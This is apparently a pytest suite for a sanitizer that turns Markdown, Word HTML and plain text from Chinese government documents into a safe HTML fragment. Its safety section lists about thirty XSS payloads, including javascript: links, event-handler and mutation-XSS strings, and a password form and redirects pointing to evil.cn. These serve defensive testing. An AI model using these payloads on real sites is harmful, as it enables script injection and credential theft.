"""Bodies come out as one strict HTML fragment, whatever was put in."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from lxml import etree

from services.catalog.cleaning import Format, clean_body
from services.catalog.cleaning.emphasis import is_cjk
from services.catalog.cleaning.tree import read_blocks
from services.catalog.cleaning.writing import write_blocks
from shared.html import ALLOWED, scrub

SHARED = Path(__file__).parents[2].parent / "shared"


def md(text: str) -> str:
    """Return cleaned Markdown."""
    return clean_body("markdown", text)


def page(text: str) -> str:
    """Return cleaned HTML."""
    return clean_body("html", text)


def words(fragment: str) -> str:
    """Return the text of *fragment* without any white space."""
    root = etree.fromstring(f"<div>{fragment}</div>", etree.HTMLParser())
    return "".join("".join(str(part) for part in root.itertext()).split())


# --- Markdown


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("**公告：**内容", "<strong>公告：</strong>内容"),
        ("的**公告：**内容", "的<strong>公告：</strong>内容"),
        ("**该星号现在被识别。**后面还有话。", "<strong>该星号现在被识别。</strong>后面还有话。"),
        ("前面有话**（说明）**后面有话", "前面有话<strong>（说明）</strong>后面有话"),
        ("适用**《办法》**的单位", "适用<strong>《办法》</strong>的单位"),
        ("称为**“重要事项”**的", "称为<strong>“重要事项”</strong>的"),
        ("称为**「重要事項」**的", "称为<strong>「重要事項」</strong>的"),
        ("请用**`make demo`**启动", "请用<strong><code>make demo</code></strong>启动"),
        ("详见**[公告](/a/1/)**全文", '详见<a href="/a/1/"><strong>公告</strong></a>全文'),
        ("共**100%**完成", "共<strong>100%</strong>完成"),
        ("价**￥5**元", "价<strong>￥5</strong>元"),
        ("第一**(甲)**项", "第一<strong>(甲)</strong>项"),
        ("*注意：*请", "<em>注意：</em>请"),
        ("***急：***办", "<strong><em>急：</em></strong>办"),
        ("~~旧办法。~~新办法", "<s>旧办法。</s>新办法"),
        ("这是**강조(설명)**을 말한다", "这是<strong>강조(설명)</strong>을 말한다"),
        ("**太字。**この文", "<strong>太字。</strong>この文"),
        ("字\U000e0100**（注）**后", "字\U000e0100<strong>（注）</strong>后"),
        ("㊙**（密）**件", "㊙<strong>（密）</strong>件"),
    ],
)
def test_emphasis_beside_chinese_punctuation(text: str, expected: str) -> None:
    """Marks open and close beside full-width punctuation, as a Chinese writer expects."""
    assert md(text) == f"<p>{expected}</p>"


@pytest.mark.parametrize(
    "text",
    [
        "a**(b)**c",
        "a ** b ** c",
        "snake_case_name",
        "5**2**3",
        "**foo bar **",
        '**"not"**here',
        "foo*bar*",
        "x**🎉a🎉**y",
        "** 空格在内 **",
        "中文_下划线_中文",
    ],
)
def test_other_emphasis_is_what_commonmark_says(text: str) -> None:
    """Beside Latin letters, spaces and emoji nothing differs from the standard."""
    from markdown_it import MarkdownIt

    standard = MarkdownIt("commonmark").render(text).strip()
    assert md(text) == page(standard)


@pytest.mark.parametrize(
    ("char", "expected"),
    [("汉", True), ("。", True), ("（", True), ("가", True), ("あ", True), ("㊙", True), ("a", False), ("“", False),
     ("🎉", False), ("⌚", False), ("(", False), ("🈁", False), ("🈂", True)],
)  # fmt: skip
def test_what_counts_as_chinese(char: str, expected: bool) -> None:
    """Letters and full-width signs do, emoji and Western quotation marks do not."""
    assert is_cjk(char) is expected


def test_markdown_tables_survive_with_alignment_and_breaks() -> None:
    """A table keeps its head, alignment and line breaks in cells."""
    assert md("| 项目 | 金额 |\n|---|---:|\n| 甲<br>乙 | 1 |") == (
        '<table class="data">\n<thead>\n<tr><th scope="col">项目</th><th scope="col" class="right">金额</th></tr>\n</thead>\n'
        '<tbody>\n<tr><td>甲<br>乙</td><td class="right">1</td></tr>\n</tbody>\n</table>'
    )


def test_footnotes_lead_there_and_back() -> None:
    """A footnote's ids are ours, and both links work."""
    cleaned = md("正文[^a]。\n\n[^a]: 出处")
    assert '<a href="#fn1" id="fnref1"><sup>[1]</sup></a>' in cleaned
    assert '<section class="footnotes">\n<ol>\n<li id="fn1">出处 <a href="#fnref1">' in cleaned


def test_raw_html_in_markdown_is_text() -> None:
    """Markdown knows one tag, the line break; all others are shown as written."""
    assert (
        md("<b>x</b> 根据<name>填写<br>第二行")
        == "<p>&lt;b&gt;x&lt;/b&gt; 根据&lt;name&gt;填写<br>第二行</p>"
    )


def test_an_indented_chinese_paragraph_is_no_program() -> None:
    """Four spaces or two ideographic ones in front of a paragraph are an indent, and go."""
    assert (
        md("第一段\n\n    第二段\n\n\u3000\u3000第三段")
        == "<p>第一段</p>\n<p>第二段</p>\n<p>第三段</p>"
    )


def test_line_breaks_are_kept_where_lines_are_short() -> None:
    """An address keeps its lines; a text that an editor wrapped is joined, without spaces between characters."""
    assert md("青禾县交通运输局\n人民路1号") == "<p>青禾县交通运输局<br>人民路1号</p>"
    half = "这一行很长" * 8
    assert md(f"{half}\n{half}") == f"<p>{half}{half}</p>"
    latin = "word " * 15
    assert md(f"{latin.strip()}\nnext") == f"<p>{latin.strip()} next</p>"


# --- headings


def test_headings_begin_below_the_pages_own() -> None:
    """The page's h1 stays the only one, and no level is skipped."""
    assert (
        md("# 一\n\n#### 二\n\n## 三\n\n# 四")
        == "<h2>一</h2>\n<h3>二</h3>\n<h3>三</h3>\n<h2>四</h2>"
    )
    assert page("<h3>一</h3><h2>二</h2><h6>三</h6>") == "<h2>一</h2>\n<h2>二</h2>\n<h3>三</h3>"


def test_headings_by_style_are_headings() -> None:
    """A word processor's heading styles, outline levels and bold numbered lines become headings."""
    assert (
        page('<p class="MsoHeading1">章</p><p style="mso-outline-level:2">节</p>')
        == "<h2>章</h2>\n<h3>节</h3>"
    )
    assert page(
        '<p><span style="font-weight:bold">一、总体要求</span></p><p><b>（一）目标</b></p>'
    ) == ("<h2>一、总体要求</h2>\n<h3>（一）目标</h3>")
    assert page("<p><b>一、这是一句完整的话。</b></p>").startswith("<p><strong>")


def test_a_heading_inside_a_list_or_table_is_bold_text() -> None:
    """Only top-level headings structure the page."""
    assert (
        page("<ul><li><h2>甲</h2>乙</li></ul>")
        == "<ul>\n<li><p><strong>甲</strong></p>\n<p>乙</p></li>\n</ul>"
    )


# --- HTML of word processors

WORD = """<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style>p.MsoNormal {margin:0}</style>
<p class=MsoNormal align=center style='text-align:center'><b><span lang=EN-US style='font-size:22.0pt;
font-family:宋体;mso-bidi-font-weight:bold'>关于<span class=SpellE>公告</span><o:p></o:p></span></b></p>
<p class=MsoNormal style='text-indent:32.0pt'><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoNormal><font face="仿宋">&nbsp;&nbsp;&nbsp;&nbsp;自<span style='font-weight:normal'>即日</span></font><font
color=red>起，国务院
办公厅</font></p>
<p class=MsoNormal style='text-align:right'>2026年11月23日</p>
<p style="display:none">草稿</p><p><span style="mso-hide:all">密</span></p>"""


def test_word_markup_becomes_plain_paragraphs() -> None:
    """Styles, spans, fonts, indents, empty paragraphs, comments and hidden text go; bold and alignment stay."""
    assert page(WORD) == (
        '<p class="center"><strong>关于公告</strong></p>\n<p>自即日起，国务院办公厅</p>\n<p class="right">2026年11月23日</p>'
    )


def test_line_breaks_before_indents_are_paragraphs() -> None:
    """What a content system parted by `<br>` and blanks is paragraphs again."""
    assert page(
        "第一段<br>\u3000\u3000第二段<br/>&nbsp;&nbsp;&nbsp;&nbsp;第三段<br><br>第四段<br>同一段"
    ) == ("<p>第一段</p>\n<p>第二段</p>\n<p>第三段</p>\n<p>第四段<br>同一段</p>")


def test_a_blank_to_be_filled_in_stays_visible() -> None:
    """Underlined spaces are a form's blank."""
    assert page("<p>姓名：<u>&nbsp;&nbsp;&nbsp;&nbsp;</u>电话</p>") == "<p>姓名：____电话</p>"


def test_word_footnotes_become_ours() -> None:
    """Word's footnote anchors lead there and back."""
    cleaned = page(
        '<p>文<a href="#_ftn1" name="_ftnref1">[1]</a></p><div id=ftn1><p><a href="#_ftnref1" name="_ftn1">[1]</a> 注</p></div>'
    )
    assert (
        cleaned
        == '<p>文<a href="#fn1" id="fnref1">[1]</a></p>\n<p><a href="#fnref1" id="fn1">[1]</a> 注</p>'
    )


# --- tables


def test_layout_tables_are_dissolved_and_data_tables_stay() -> None:
    """A table that only places text becomes its text; a table with lines or a head stays."""
    layout = "<table border=0><tr><td>财政部</td><td>2026年</td></tr><tr><td colspan=2><p>一</p><p>二</p></td></tr></table>"
    assert page(layout) == "<p>财政部</p>\n<p>2026年</p>\n<p>一</p>\n<p>二</p>"
    data = "<table border=1><tr><td>甲</td><td>1</td></tr><tr><td>乙</td><td>2</td></tr></table>"
    assert page(f"<table><tr><td><p>看表</p>{data}</td></tr></table>") == (
        '<p>看表</p>\n<table class="data">\n<tbody>\n<tr><td>甲</td><td>1</td></tr>\n<tr><td>乙</td><td>2</td></tr>\n</tbody>\n</table>'
    )


@pytest.mark.parametrize(
    "first",
    [
        "<tr><td><b>路段</b></td><td><span style='font-weight:700'>里程</span></td></tr>",
        "<tr><td>序号</td><td>里程</td></tr>",
        "<tr bgcolor='#ccc'><td>路段</td><td>里程</td></tr>",
        "<tr><th>路段</th><th>里程</th></tr>",
        "<thead><tr><td>路段</td><td>里程</td></tr></thead>",
    ],
)
def test_a_first_row_that_is_clearly_a_head_is_one(first: str) -> None:
    """Bold, named, shaded or marked first rows become the head, with scope for screen readers."""
    cleaned = page(f"<table border=1>{first}<tr><td>甲</td><td>12</td></tr></table>")
    head = re.search(r"<thead>\n<tr>(.*)</tr>\n</thead>", cleaned)
    assert head
    assert re.fullmatch(r'<th scope="col">[^<]+</th><th scope="col">里程</th>', head[1])


def test_a_first_row_of_figures_is_no_head() -> None:
    """Nothing is called a head on suspicion."""
    assert "<thead>" not in page(
        "<table border=1><tr><td>甲</td><td>12</td></tr><tr><td>乙</td><td>3</td></tr></table>"
    )


def test_merged_cells_stay_merged() -> None:
    """colspan and rowspan are kept within the table, and a head reaches down to its last merged cell."""
    cleaned = page(
        "<table border=1><tr><th rowspan=2>部门</th><th colspan=2>预算</th></tr><tr><th>收</th><th>支</th></tr>"
        "<tr><td>甲</td><td>1</td><td rowspan=99>2</td></tr><tr><td>乙</td><td>3</td></tr></table>"
    )
    assert cleaned.count("<tr>", 0, cleaned.index("</thead>")) == 2
    assert '<th rowspan="2" scope="col">部门</th><th colspan="2" scope="col">预算</th>' in cleaned
    assert '<td rowspan="2">2</td>' in cleaned


def test_a_caption_stays() -> None:
    """The name of a table is its caption."""
    table = "<table><caption>附表 1</caption><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>"
    assert "<caption>附表 1</caption>" in page(table)


# --- links and pictures


@pytest.mark.parametrize(
    ("href", "kept"),
    [
        ("https://a.cn/b?c=d&e", "https://a.cn/b?c=d&amp;e"),
        ("http://a.cn", "http://a.cn"),
        ("//a.cn/b", "https://a.cn/b"),
        ("mailto:a@b.cn", "mailto:a@b.cn"),
        ("tel:12345", "tel:12345"),
        ("/jtj/2026/1/", "/jtj/2026/1/"),
        ("附件 1.docx", "附件%201.docx"),
        ("javascript:alert(1)", None),
        (" java\tscript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("&#106;avascript:alert(1)", None),
        ("java\u200bscript:alert(1)", None),
        ("data:text/html,x", None),
        ("vbscript:x", None),
        ("file:///etc/passwd", None),
        ("ftp://a.cn", None),
        ("\\\\a.cn\\b", None),
        ("#top", None),
        ("http://", None),
        ("http://[", None),
    ],
)
def test_links_lead_only_where_they_may(href: str, kept: str | None) -> None:
    """http, https, mailto, tel and relative addresses stay; of others only the words stay."""
    assert page(f'<p><a href="{href}" onclick="x()" target="_blank">看</a></p>') == (
        f'<p><a href="{kept}">看</a></p>' if kept else "<p>看</p>"
    )


def test_pictures_are_attachments_or_words() -> None:
    """A picture from elsewhere leaves its alternative text; an attached one is found by name."""
    assert page('<p><img src="http://x.cn/a.png" alt="示意图"></p>') == "<p>示意图</p>"
    assert page('<p>文<img src="data:image/png;base64,AA"></p>') == "<p>文</p>"
    files = {"图 1.png": "/files/ab/%E5%9B%BE%201.png"}
    shown = '<p><img src="/files/ab/%E5%9B%BE%201.png" alt="图"></p>'
    assert clean_body("markdown", "![图](<attachment:图 1.png>)", files) == shown
    assert clean_body("html", '<img alt="图" src="upload/%E5%9B%BE%201.png">', files) == shown
    assert (
        clean_body("markdown", "[下载](<attachment:图 1.png>)", files)
        == f'<p><a href="{files["图 1.png"]}">下载</a></p>'
    )
    assert clean_body("markdown", "![图](attachment:别的.png)", files) == "<p>图</p>"
    assert page('<img src="/files/../x.png" alt="a">') == "<p>a</p>"


# --- plain text


def test_plain_text_is_paragraphs_and_nothing_else() -> None:
    """Blank lines and indents part paragraphs, single breaks stay, markup is shown."""
    text = "标题\r\n\r\n第一段<b>&amp;\n第二行\n\u3000\u3000第二段\n\n\n**第三段**"
    assert clean_body("text", text) == (
        "<p>标题</p>\n<p>第一段&lt;b&gt;&amp;amp;<br>第二行</p>\n<p>第二段</p>\n<p>**第三段**</p>"
    )


def test_long_lines_of_plain_text_are_paragraphs() -> None:
    """Text that knows no blank lines has a paragraph in every line."""
    line = "这是一个很长的自然段" * 6
    assert clean_body("text", f"{line}\n{line}") == f"<p>{line}</p>\n<p>{line}</p>"


# --- safety

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action='https://evil.cn'><input name=password><button formaction='javascript:alert(1)'>x</form>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#x6a;avascript:alert(1)'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='position:fixed;top:0'>x</div>",
    "<link rel=stylesheet href='//evil.cn'><meta http-equiv=refresh content='0;url=//evil.cn'><base href='//evil.cn'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<p id=body name=location><a id=cookie name=x>x</a></p>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>x",
    "<video><source onerror='alert(1)'></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='//evil.cn' ping='//evil.cn' download>x</a>",
    "<b <script>alert(1)</script>0",
    "<<script>script>alert(1)<</script>/script>",
]


class Inspector(HTMLParser):
    """Reads what a browser would and notes all that is not on the allow-list."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Compare one tag with the allow-list."""
        if tag not in ALLOWED.tags:
            self.faults.append(tag)
        for name, value in attrs:
            classes = ALLOWED.classes.get(tag, frozenset())
            known = name in ALLOWED.attributes.get(tag, frozenset()) or (
                name == "class" and value in classes
            )
            if (
                not known
                or "script:" in (value or "").lower()
                or (name == "src" and not (value or "").startswith(("/files/", "attachment:")))
            ):
                self.faults.append(f"{tag}.{name}={value}")

    def handle_comment(self, data: str) -> None:
        """Note a comment."""
        self.faults.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        """Note a declaration."""
        self.faults.append(decl)


def faults(fragment: str) -> list[str]:
    """Return everything in *fragment* that is not on the allow-list."""
    inspector = Inspector()
    inspector.feed(fragment)
    inspector.close()
    return inspector.faults


@pytest.mark.parametrize("attack", HOSTILE)
@pytest.mark.parametrize(
    "wrapping",
    ["{}", "<table border=1><tr><td>a<td>{}</table>", "<ul><li>{}", "<svg>{}", "<p>**{}**"],
)
def test_what_could_run_is_inert_in_every_format(attack: str, wrapping: str) -> None:
    """No script, handler, style, frame, form or foreign address survives, alone or inside anything."""
    hostile = wrapping.format(attack)
    for kind in ("html", "markdown", "text"):
        cleaned = clean_body(kind, hostile)
        assert faults(cleaned) == []
        assert clean_body("html", cleaned) == cleaned == scrub(cleaned)


@pytest.mark.parametrize("attack", HOSTILE)
def test_the_last_filter_needs_no_other(attack: str) -> None:
    """The allow-list that pages are rendered through is safe by itself, whatever lies in the record."""
    assert faults(scrub(attack)) == []
    assert faults(scrub(f'<table class="data"><tbody><tr><td>{attack}')) == []


@pytest.mark.parametrize(
    "href", ["javascript:x", "data:text/html,x", "\x01javascript:x", "java&#10;script:x"]
)
def test_a_written_link_is_judged_before_the_last_filter(href: str) -> None:
    """What is written, before any filter, already has no address that could run."""
    assert "href" not in write_blocks(read_blocks(f'<a href="{href}">x</a>'))


def test_the_inspector_sees_faults() -> None:
    """The judge of the tests above is not blind."""
    for attack in (
        "<script>x</script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<img src='//x'>",
        "<p class=x>",
        "<!--x-->",
    ):
        assert faults(attack)


TAGS = "p div span b i u s a h1 h2 h3 h6 ul ol li table thead tbody tr td th caption blockquote pre br hr img font sup sub code center section svg math style script title dl dt dd o:p form button".split()
ATTRIBUTES = [
    "", " style='font-weight:bold'", " style='text-align:center'", " align=right", " class=center", " class=data", " href='javascript:x'",
    " href='https://a.cn/ b'", " href='#fn1'", " id=fn1", " id=x", " src='/files/a/b.png' alt='图'", " colspan=2", " rowspan=3",
    " border=1", " bgcolor=red", " start=3", " onclick=x", " style='vertical-align:super'", " class='footnotes'", " style='display:none'",
    " class=MsoHeading2", " style='font-weight:normal;font-style:italic;text-decoration:underline line-through'",
]  # fmt: skip
TEXTS = [
    "文",
    "一、总体",
    " ",
    "\n",
    "\u3000\u3000",
    "&nbsp;&nbsp;",
    "a b",
    "。",
    "<",
    "&lt;b&gt;",
    "*",
    "序号",
    "12",
    "&amp;nbsp;",
    "\u200b",
    "\x85",
    "]]>",
]
PIECE = st.one_of(
    st.builds("<{}{}>".format, st.sampled_from(TAGS), st.sampled_from(ATTRIBUTES)),
    st.builds("</{}>".format, st.sampled_from(TAGS)),
    st.sampled_from(TEXTS),
)
SOUP = st.lists(PIECE, max_size=25).map("".join)


@settings(max_examples=400, deadline=None)
@given(SOUP)
@example("<table border=1><tr><td>a<td><h1>b</table>")
@example("<a href='https://a.cn'>x<table><tr><td>y</a>z")
@example("<pre>\n\n a</pre>")
@example("<b>a<br> b</b> <i> c</i>")
def test_cleaning_any_tag_soup_is_safe_and_done_once(soup: str) -> None:
    """Whatever tags are thrown together, the result is on the allow-list and cleaning it again changes nothing."""
    cleaned = page(soup)
    assert faults(cleaned) == []
    assert page(cleaned) == cleaned
    assert scrub(cleaned) == cleaned
    assert "<h1" not in cleaned


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(["markdown", "html", "text"]), st.text(max_size=120))
def test_cleaning_any_text_never_raises(kind: Format, text: str) -> None:
    """Any text in any format gives a fragment that stays what it is."""
    cleaned = clean_body(kind, text)
    assert faults(cleaned) == []
    assert page(cleaned) == cleaned


MARKDOWN = st.lists(
    st.sampled_from(["**", "*", "_", "~~", "`", "文", "字。", "（注）", "word", " ", "\n", "\n\n", "# ", "- ", "1. ", "> ", "|", "|-|-|\n", "[a](b)",
                     "![图](attachment:a.png)", "[^1]", "\n[^1]: 注\n", "<br>", "<b>", "&amp;", "\\", "\u3000\u3000", "    ", "---\n", "```\n"]),
    max_size=25,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(MARKDOWN)
def test_cleaning_any_markdown_is_safe_and_done_once(text: str) -> None:
    """Whatever Markdown is thrown together, the result is canonical."""
    cleaned = md(text)
    assert faults(cleaned) == []
    assert page(cleaned) == cleaned


@pytest.mark.parametrize(
    "deep",
    [
        "<div>" * 5000 + "文",
        "<blockquote>" * 3000 + "文",
        "<table><tr><td>" * 2000 + "文",
        "<ul><li>" * 2000 + "文",
        "<b>" * 5000 + "文",
        "<a>" * 3000 + "文",
        "<svg>" * 3000 + "文",
    ],
)
def test_depth_costs_structure_but_not_text(deep: str) -> None:
    """Nesting beyond all measure is flattened; the text stays, and nothing overflows."""
    cleaned = page(deep)
    assert "文" in cleaned or "<svg>" in deep
    assert faults(cleaned) == []


@pytest.mark.parametrize(
    "long",
    [
        "**" * 20_000,
        "[" * 20_000,
        "> " * 3000 + "x",
        "`" * 20_001,
        "|a" * 5000 + "\n" + "|-" * 5000,
        "<" * 20_000,
        "![](" * 5000,
        "\u3000" * 20_000 + "文",
    ],
)
@pytest.mark.timeout(20)
def test_no_short_text_keeps_us_busy(long: str) -> None:
    """Forty kilobytes of marks are cleaned in seconds, in every format."""
    for kind in ("markdown", "html", "text"):
        assert faults(clean_body(kind, long)) == []


# --- real documents


def real(name: str) -> list[dict[str, str]]:
    """Return the rows of a real file beside the repository, or skip."""
    path = SHARED / "data" / name
    if not path.exists():
        pytest.skip("the real documents lie beside the repository")
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_real_word_processor_pages_lose_markup_and_no_text() -> None:
    """34 bodies as governments publish them keep every visible character, and most of their bytes go."""
    before = after = 0
    for row in real("html_samples.jsonl"):
        cleaned = page(row["html"])
        assert faults(cleaned) == []
        assert page(cleaned) == cleaned
        before, after = before + len(row["html"]), after + len(cleaned)
        visible = re.sub(r"<!--.*?-->|<img[^>]*>", "", row["html"], flags=re.DOTALL)
        assert words(cleaned).replace("_", "") == re.sub(
            r"[\u200b\ufeff]", "", words(visible)
        ).replace("_", ""), row["id"]
    assert after < before / 2


def test_real_markdown_is_canonical_after_one_cleaning() -> None:
    """A sample of 836 real documents is canonical, and their tables stay."""
    for row in real("documents.jsonl")[::9]:
        cleaned = md(row["body_markdown"])
        assert faults(cleaned) == []
        assert page(cleaned) == cleaned
        assert ("<table" in cleaned) == bool(
            re.search(r"^\|[-: |]+\|$", row["body_markdown"], re.MULTILINE)
        ), row["id"]
